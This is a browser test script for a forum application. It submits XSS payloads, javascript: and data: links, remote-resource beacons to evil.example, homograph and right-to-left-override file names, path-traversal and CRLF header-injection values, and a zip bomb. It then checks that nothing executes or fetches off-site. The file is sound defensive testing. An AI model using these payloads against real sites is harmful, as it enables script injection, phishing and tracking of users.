// What somebody with bad intentions writes, seen by somebody else in a real browser: nothing of it runs, nothing of it is fetched
// from elsewhere, no link leads where it does not say, and the page keeps its shape. What the API refuses and what the renderer
// makes of words is tested in Rust; here only the browser can tell.
//
// Usage: node tests/browser/hostile.mjs   (env as story.mjs). Ends with "N passed, N failed".

import { rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { deflateRawSync } from "node:zlib";
import { accessible, ask, check, ended, failed, house, launch, look, must, run, signIn } from "./stage.mjs";

const PASSWORD = "correct horse battery";
// One account may write ten posts in a row; a crowd of them writes on.
const CROWD = ["mallory", "trudy", "oscar"];
const PWNED = "globalThis.pwned=1";
const ELSEWHERE = "https://evil.example";
const POSTS = [
  `<script>${PWNED}</script><img src=x onerror="${PWNED}"><svg onload="${PWNED}"><style>@import "${ELSEWHERE}/a.css"</style>`,
  `[a](javascript:${PWNED}) [b](java&#10;script:${PWNED}) [c](data:text/html,<script>${PWNED}</script>) <javascript:${PWNED}>`,
  `![tracked](${ELSEWHERE}/pixel.png) ![x](//evil.example/p.gif) <link rel=stylesheet href=${ELSEWHERE}/x.css>`,
  `[https://bank.example](${ELSEWHERE}/login) [аррӏе.com](https://аррӏе.com/) https://user:secret@evil.example/`,
  `<iframe src="${ELSEWHERE}"></iframe><object data="${ELSEWHERE}"></object><meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<form action="${ELSEWHERE}"><input name=password type=password autofocus onfocus="${PWNED}"></form><details open ontoggle="${PWNED}">`,
  `\u202Egnp.exe\u202C \u200B\u200D\uFEFF invoice\u202Efdp.exe`,
  `Z${"\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307".repeat(60)}algo`,
  `${"W".repeat(6_000)} ${"https://long.example/".padEnd(3_000, "x")}`,
  `|${" h |".repeat(120)}\n|${"--|".repeat(120)}\n${`|${" cell |".repeat(120)}\n`.repeat(60)}`,
  `${">".repeat(900)} deep\n\n${"- ".repeat(900)}deep\n\n${"[".repeat(2_000)}`,
  Array.from({ length: 800 }, (_, n) => `@nobody${n}`).join(" "),
  `\`\`\`html"><script>${PWNED}</script>\n<script>${PWNED}</script>\n\`\`\``,
];

/** A picture's first bytes before a page, a page that calls itself a picture, an archive of nothing much that unpacks large. */
function files() {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${PWNED}"><script>${PWNED}</script></svg>`;
  const page = `<!doctype html><script>${PWNED}</script>`;
  return [
    ["evil.svg", Buffer.from(svg)],
    ["picture.png", Buffer.from(page)],
    ["polyglot.gif", Buffer.concat([Buffer.from("GIF89a\x01\x00\x01\x00\x00\x00\x00"), Buffer.from(`/*${page}*/`)])],
    ["..%2F..%2Fetc%2Fpasswd", Buffer.from("root:x:0:0\n")],
    ["report%E2%80%AEfdp.exe", Buffer.from("MZ\x90\x00 not a program")],
    ["bomb.zip", Buffer.concat([Buffer.from("PK\x03\x04"), deflateRawSync(Buffer.alloc(4_000_000))])],
  ];
}

const { data, config, url, start, stop } = await house("hostile");
let browser;
try {
  await start();
  const people = [...CROWD, "reader"].map((login) => ({ account: { login, name: `<b onclick=${PWNED}>${login}</b>`, roles: ["user"], password: PASSWORD } }));
  const file = join(data, "people.jsonl");
  writeFileSync(file, people.map((line) => `${JSON.stringify(line)}\n`).join(""), { mode: 0o600 });
  run("weft-collector", "import", file, "--config", config);
  browser = await launch();
  const crowd = [];
  for (const login of CROWD) crowd.push(await signIn(browser, url, { login, password: PASSWORD }));
  const [mallory] = crowd;
  let turn = 0;
  const next = () => crowd[turn++ % crowd.length];
  const title = `<img src=x onerror=${PWNED}> "quoted" \u202Etxet`;
  const opened = await ask(mallory, "/threads", "POST", { space: "help", title, markdown: "Look at this." });
  must(opened.status === 201, JSON.stringify(opened));
  const thread = opened.body.id;
  const sent = [];

  await check("each post and file is taken as harmless or refused with words", async () => {
    for (const markdown of POSTS) {
      const answer = await ask(next(), `/threads/${thread}/posts`, "POST", { markdown });
      must(answer.status === 201 || (answer.status >= 400 && answer.status < 500 && answer.body?.detail), `${markdown.slice(0, 60)}: ${JSON.stringify(answer)}`);
      sent.push(answer.status);
    }
    must(sent.filter((status) => status === 201).length >= 10, `most should be taken, and are shown harmless: ${sent}`);
    for (const [name, bytes] of files()) {
      const person = next();
      const answer = await person.evaluate(
        async ([name, bytes]) => {
          const answer = await fetch(`/api/v1/attachments?name=${name}`, { method: "POST", headers: { "x-weft-csrf": "1" }, body: new Uint8Array(bytes) });
          return { status: answer.status, body: await answer.json() };
        },
        [name, [...bytes]],
      );
      must([201, 400, 413, 415].includes(answer.status), `${name}: ${JSON.stringify(answer)}`);
      if (answer.status === 201) {
        must(!/[/\\\u202e]/.test(answer.body.name), `a name that leads elsewhere: ${answer.body.name}`);
        await ask(person, `/threads/${thread}/posts`, "POST", { markdown: `${answer.body.markdown} !${answer.body.markdown.replace(/^!/, "")}` });
      }
    }
  });

  // The reader comes with a clean page, a listener on everything that it asks for, and a phone's width.
  const reader = await signIn(browser, url, { login: "reader", password: PASSWORD }, { viewport: { width: 390, height: 844 } });
  const asked = [];
  let dialogs = 0;
  reader.on("request", (request) => asked.push(request.url()));
  reader.on("dialog", (dialog) => { dialogs += 1; return dialog.dismiss(); });

  await check("the reader sees it all, and nothing runs or is fetched from elsewhere", async () => {
    await reader.goto(`${url}/threads/${thread}`);
    await reader.getByText("Look at this.").waitFor();
    await reader.locator("[data-post]").last().scrollIntoViewIfNeeded();
    await reader.waitForLoadState("networkidle");
    const abroad = asked.filter((each) => !each.startsWith(url) && !each.startsWith("data:") && !each.startsWith("blob:"));
    must(abroad.length === 0, `asked elsewhere: ${abroad.slice(0, 3)}`);
    must(dialogs === 0 && !(await reader.evaluate(() => "pwned" in globalThis)), "a script of a post ran");
    const inside = await reader.evaluate(() => [...document.querySelectorAll(".post-body script, .post-body iframe, .post-body object, .post-body form, .post-body style, .post-body svg, .post-body input:not([disabled])")].map((each) => each.outerHTML.slice(0, 80)));
    must(inside.length === 0, `in a post: ${inside}`);
    const handlers = await reader.evaluate(() => [...document.querySelectorAll(".post-body *")].flatMap((each) => [...each.attributes]).filter(({ name }) => name.startsWith("on")).map(({ name }) => name));
    must(handlers.length === 0, `handlers: ${handlers}`);
    await look(reader, "hostile-thread-phone");
  });

  await check("links lead to the web only, and say where", async () => {
    const links = await reader.evaluate(() => [...document.querySelectorAll(".post-body a")].map((each) => ({ href: each.getAttribute("href"), words: each.textContent, title: each.title, rel: each.rel, whole: each.parentElement?.textContent ?? "" })));
    must(links.length > 0, "no link was left to look at");
    const bad = links.filter(({ href }) => href && !/^(https?:|mailto:|#|\/)/.test(href));
    must(bad.length === 0, JSON.stringify(bad));
    const away = links.filter(({ href }) => /^https?:/.test(href ?? "") && !href.startsWith(url));
    must(away.every(({ rel }) => rel.includes("noopener") && rel.includes("nofollow")), JSON.stringify(away[0]));
    const bank = links.find(({ words }) => words.includes("bank.example"));
    must(!bank || bank.whole.includes("evil.example"), `says bank, leads to evil, and does not say so: ${JSON.stringify(bank)}`);
    const homograph = links.find(({ href }) => href?.includes("xn--") || /[а-яӏ]/.test(href ?? ""));
    must(!homograph || homograph.whole.includes("xn--"), `looks like another name: ${JSON.stringify(homograph)}`);
  });

  await check("the page keeps its shape", async () => {
    const wide = await reader.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    must(wide <= 1, `the page is ${wide} px too wide`);
    await accessible(reader, "the hostile thread");
  });

  await check("files are saved, not shown, and have no power when opened", async () => {
    const { body } = await ask(reader, `/threads/${thread}/posts?limit=100`);
    const found = body.items.flatMap((post) => post.files);
    must(found.length >= 3, `files: ${JSON.stringify(found)}`);
    for (const one of found) {
      const headers = await reader.evaluate(async (path) => {
        const answer = await fetch(path);
        return { type: answer.headers.get("content-type"), place: answer.headers.get("content-disposition"), policy: answer.headers.get("content-security-policy"), sniff: answer.headers.get("x-content-type-options") };
      }, one.url);
      must(headers.sniff === "nosniff" && /sandbox/.test(headers.policy ?? ""), `${one.name}: ${JSON.stringify(headers)}`);
      must(!/html|svg|xml|javascript/.test(headers.type), `${one.name} is given out as ${headers.type}`);
      must(/^image\//.test(headers.type) || /^attachment/.test(headers.place ?? ""), `${one.name} would be shown: ${JSON.stringify(headers)}`);
    }
    must(!(await reader.evaluate(() => "pwned" in globalThis)), "a file ran");
  });

  await check("lists, search and notices show the title as words", async () => {
    for (const path of ["/threads", "/search?q=quoted", "/notices"]) {
      await reader.goto(`${url}${path}`);
      await reader.getByRole("heading", { level: 1 }).first().waitFor();
      await reader.waitForLoadState("networkidle");
      must(!(await reader.evaluate(() => "pwned" in globalThis)), `${path} ran it`);
    }
    must(dialogs === 0, "a dialog came up");
  });

  await check("forged names, huge bodies and wrong forms are refused with words", async () => {
    for (const [path, body] of [
      [`/threads/${thread}/posts`, { markdown: "x".repeat(10 * 1024 * 1024) }],
      [`/threads/${thread}/posts`, { markdown: ["not", "text"] }],
      ["/threads", { space: "help\r\nSet-Cookie: a=b", title: "x", markdown: "y" }],
      ["/threads", { space: "../../etc", title: "x", markdown: "y" }],
    ]) {
      const answer = await ask(reader, path, "POST", body);
      must(answer.status >= 400 && answer.status < 500 && (answer.body?.detail ?? answer.body?.title), `${path}: ${answer.status} ${JSON.stringify(answer.body)}`);
    }
  });
} catch (error) {
  failed("set-up", error);
} finally {
  await browser?.close();
  await stop();
}
const good = ended();
if (good) rmSync(data, { recursive: true, force: true });
process.exit(good ? 0 : 1);
